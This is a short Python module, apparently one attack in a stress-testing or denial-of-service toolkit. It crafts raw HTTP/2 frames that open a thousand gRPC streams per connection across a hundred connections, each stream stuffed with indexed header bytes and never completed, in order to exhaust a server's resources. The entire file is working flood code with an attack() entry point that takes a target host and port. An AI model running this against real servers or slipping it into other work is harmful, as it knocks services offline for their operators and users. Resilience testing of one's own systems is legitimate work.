"""Calls of gRPC that begin and never say anything, as many as a connection may have, with as many
headers as it takes: a byte each, of the table, and no two blocks alike."""
import wire

NAME = "HTTP/2 stream floods"
SIZE = 100
STREAMS = 1000
HEADERS = 80


def calls():
    keep = wire.indexed_literal(b"a", b"b" * 120)
    out = [wire.OPENING + wire.headers(1, wire.grpc_head() + keep)]
    for i in range(1, STREAMS):
        out.append(wire.headers(2 * i + 1, wire.grpc_head() + b"\xbe" * (HEADERS - i % 2)))
    return b"".join(out)


class Streams(wire.Crowd):
    """Says all that it has to, as fast as the server takes it."""

    def __init__(self, host, port):
        super().__init__(host, port, SIZE, b"", lambda _turn: None)
        self.everything = calls()
        self.said = {}

    def say(self, s, data):
        at = self.said.get(s, 0)
        try:
            self.said[s] = at + s.send(self.everything[at:])
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def trickle(self):
        for s in list(self.members):
            if self.said.get(s, 0) < len(self.everything) and not self.say(s, b""):
                self.lose(s)

    def lose(self, s):
        self.said.pop(s, None)
        super().lose(s)


def attack(host, port, stop, log):
    log(f"{SIZE} connections with {STREAMS} calls of {HEADERS} headers that say nothing more")
    return Streams(host, port).run(stop, 0.2)
